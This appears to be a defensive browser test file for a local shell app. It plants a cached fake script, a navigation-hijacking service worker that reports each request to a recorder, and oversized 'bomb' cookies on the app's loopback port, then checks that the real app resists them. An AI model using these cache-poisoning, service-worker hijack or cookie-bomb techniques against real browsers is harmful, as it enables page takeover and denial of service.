/**
 * The attacks of the 2026-12-01 review and its re-test, in real Chromium with one profile: while
 * the shell is down another program holds its port and plants something in the browser, then
 * the real shell starts on that port (`--port P`) and the same profile opens its link.
 * - a fake `/assets/app-<hash>.js` (the real name) with a year-long cache: it must not run, and
 *   every file the page loads must come from this launch's host and path;
 * - a service worker with scope `/`, at 127.0.0.1:P and at another `*.localhost` name on P: it
 *   must never run for the app's page (a worker serves the whole origin, headers and all);
 * - six 4,000-character cookies for 127.0.0.1 and `*.localhost` from another port: the app must
 *   still open (they are over Node's 16 KB header limit).
 * Needs `npm run build` (the built shell and renderer).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, expect, it } from 'vitest';
import type { Page } from '@playwright/test';
import { PROJECT_ROOT } from '../../harness/start-browser-shell-process';
import { builtEntryScript, openProfile, startBuiltShell } from './chromium-profile';

const dir = mkdtempSync(path.join(os.tmpdir(), 'dmd-planted-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const YEAR = 'public, max-age=31536000, immutable';
/** What the planted script does where it runs: marks the page (the review's script called the core from there). */
const PLANTED_SCRIPT = `document.documentElement.setAttribute('data-planted', location.pathname);`;

/** The program holding the port: the whole origin is its own, headers included. */
function startFakeServer(entry: string): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    if (req.url === `/${entry}`) {
      res.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': YEAR });
      res.end(PLANTED_SCRIPT);
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': YEAR });
    res.end(`<!doctype html><html><head><script type="module" crossorigin src="./${entry}"></script></head><body>fake</body></html>`);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

it('a script planted in the browser cache on the shell’s port does not run when the shell comes back on it', async () => {
  const entry = builtEntryScript(readFileSync(path.join(PROJECT_ROOT, 'out', 'renderer', 'index.html'), 'utf8'));
  const profile = path.join(dir, 'profile');

  const fake = await startFakeServer(entry);
  const port = (fake.address() as AddressInfo).port;
  let browser = await openProfile(profile);
  try {
    const page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${port}/`);
    // The attack's first half worked: the browser ran (and cached) the fake entry.
    await expect.poll(() => page.evaluate(() => document.documentElement.getAttribute('data-planted'))).toBe('/');
  } finally {
    await browser.close();
    fake.closeAllConnections();
    await new Promise((resolve) => fake.close(resolve));
  }

  const shell = await startBuiltShell(path.join(dir, 'user-data'), ['--port', String(port)]);
  browser = await openProfile(profile);
  try {
    expect(shell.ready.port).toBe(port);
    const page = await browser.newPage();
    const loaded: string[] = [];
    page.on('request', (request) => loaded.push(request.url()));
    await page.goto(shell.ready.url);
    await page.waitForFunction(() => document.documentElement.hasAttribute('data-planted') || document.querySelector('h1') !== null, undefined, {
      timeout: 60_000,
    });
    expect(await page.evaluate(() => document.documentElement.getAttribute('data-planted'))).toBeNull();
    await page.getByRole('heading', { level: 1, name: 'Search datasets' }).waitFor({ timeout: 60_000 });

    // Every file the page loaded (the lazy screens' chunks come after start-up) is this launch's.
    await page.waitForLoadState('networkidle');
    const launchPath = new URL(page.url()).pathname;
    expect(launchPath).toMatch(/^\/[A-Za-z0-9_-]{22}\/$/);
    const files = loaded.filter((url) => !url.startsWith('data:') && !url.includes('/open/'));
    expect(files.filter((url) => url.endsWith('.js')).length).toBeGreaterThan(5);
    expect(files.filter((url) => !new URL(url).pathname.startsWith(launchPath))).toEqual([]);
    expect(files.filter((url) => new URL(url).origin !== shell.ready.pageOrigin)).toEqual([]);
  } finally {
    await browser.close();
    await shell.stop();
  }
}, 120_000);

/** Where the planted worker reports each time it runs (its script, and each request it sees). */
function startRecorder(): Promise<{ server: http.Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    seen.push(decodeURIComponent((req.url ?? '').slice(1)));
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, port: (server.address() as AddressInfo).port, seen })));
}

/** The re-test's worker: it takes over every page of its origin, answering each navigation with its own page. */
function plantedWorker(recorderPort: number): string {
  const report = `(what) => fetch('http://127.0.0.1:${recorderPort}/' + encodeURIComponent(what), { mode: 'no-cors' }).catch(() => undefined)`;
  return `const report = ${report};
report('script ' + location.host);
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  report('fetch ' + event.request.url);
  if (event.request.mode === 'navigate') {
    event.respondWith(new Response('<!doctype html><h1>Planted</h1><script>document.documentElement.setAttribute("data-planted", location.href)</script>', { headers: { 'Content-Type': 'text/html' } }));
  }
});`;
}

/** The program holding the port: registers its worker for `/` at whatever host name the browser used. */
function startWorkerServer(recorderPort: number): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    if (req.url === '/sw.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      res.end(plantedWorker(recorderPort));
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(
      `<!doctype html><body>fake<script>navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => document.documentElement.setAttribute('data-registered', location.host));</script></body>`,
    );
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

async function stopServer(server: http.Server): Promise<void> {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

/** Waits for the app's first screen, or the page of something planted, and says which. */
async function openedPage(page: Page): Promise<string> {
  await page.waitForFunction(() => document.documentElement.hasAttribute('data-planted') || document.querySelector('h1') !== null, undefined, {
    timeout: 60_000,
  });
  return (await page.evaluate(() => document.documentElement.getAttribute('data-planted'))) ?? (await page.locator('h1').first().textContent()) ?? '';
}

it('a service worker planted at the shell’s port, at 127.0.0.1 or another *.localhost name, never runs for the app', async () => {
  const profile = path.join(dir, 'worker-profile');
  const recorder = await startRecorder();
  const fake = await startWorkerServer(recorder.port);
  const port = (fake.address() as AddressInfo).port;
  const plantedAt = [`127.0.0.1:${port}`, `dmd-${'0'.repeat(32)}.localhost:${port}`];
  let browser = await openProfile(profile);
  try {
    const page = await browser.newPage();
    for (const host of plantedAt) {
      await page.goto(`http://${host}/`);
      await expect.poll(() => page.evaluate(() => document.documentElement.getAttribute('data-registered'))).toBe(host);
      // The attack's first half worked: the worker answers every page of that origin from now on.
      await page.goto(`http://${host}/any/page`);
      expect(await openedPage(page)).toBe(`http://${host}/any/page`);
    }
  } finally {
    await browser.close();
    await stopServer(fake);
  }
  expect(recorder.seen.filter((line) => line.startsWith('script ')).length).toBeGreaterThanOrEqual(2);
  recorder.seen.length = 0;

  const shell = await startBuiltShell(path.join(dir, 'worker-user-data'), ['--port', String(port)]);
  browser = await openProfile(profile);
  try {
    expect(shell.ready.port).toBe(port);
    const page = await browser.newPage();
    const fromWorker: string[] = [];
    page.on('response', (response) => {
      if (response.fromServiceWorker()) fromWorker.push(response.url());
    });
    await page.goto(shell.ready.url);
    expect(await openedPage(page)).toBe('Search datasets');
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    expect(fromWorker).toEqual([]);
    expect(recorder.seen).toEqual([]);
    expect(new URL(page.url()).origin).toBe(shell.ready.pageOrigin);
  } finally {
    await browser.close();
    await shell.stop();
    await stopServer(recorder.server);
  }
}, 120_000);

it('cookies another loopback page piled up for 127.0.0.1 and *.localhost do not keep the app from opening', async () => {
  const profile = path.join(dir, 'cookie-profile');
  const year = 365 * 24 * 3600;
  const bomb = (domain: string) => Array.from({ length: 6 }, (_, index) => `bomb${index}=${'x'.repeat(4000)}; Path=/; Max-Age=${year}${domain}`);
  const fake = http.createServer((req, res) => {
    const host = req.headers.host ?? '';
    // Host-only cookies, and (at a *.localhost name) the same for every *.localhost name, if the browser takes them.
    const cookies = host.startsWith('127.0.0.1') ? bomb('') : [...bomb(''), ...bomb('; Domain=localhost').map((cookie) => `wide-${cookie}`)];
    res.writeHead(200, { 'Content-Type': 'text/html', 'Set-Cookie': cookies });
    res.end('<!doctype html><h1>Cookies set</h1>');
  });
  await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
  const fakePort = (fake.address() as AddressInfo).port;
  const shell = await startBuiltShell(path.join(dir, 'cookie-user-data'));
  const browser = await openProfile(profile);
  try {
    const page = await browser.newPage();
    for (const host of [`127.0.0.1:${fakePort}`, `evil.localhost:${fakePort}`]) await page.goto(`http://${host}/`);
    // The attack's first half worked: the cookies are kept, some 24 KB a request.
    expect((await browser.cookies()).filter((cookie) => cookie.domain === '127.0.0.1' && cookie.value.length === 4000)).toHaveLength(6);
    await page.goto(shell.ready.url);
    expect(await openedPage(page)).toBe('Search datasets');
  } finally {
    await browser.close();
    await shell.stop();
    await stopServer(fake);
  }
}, 120_000);
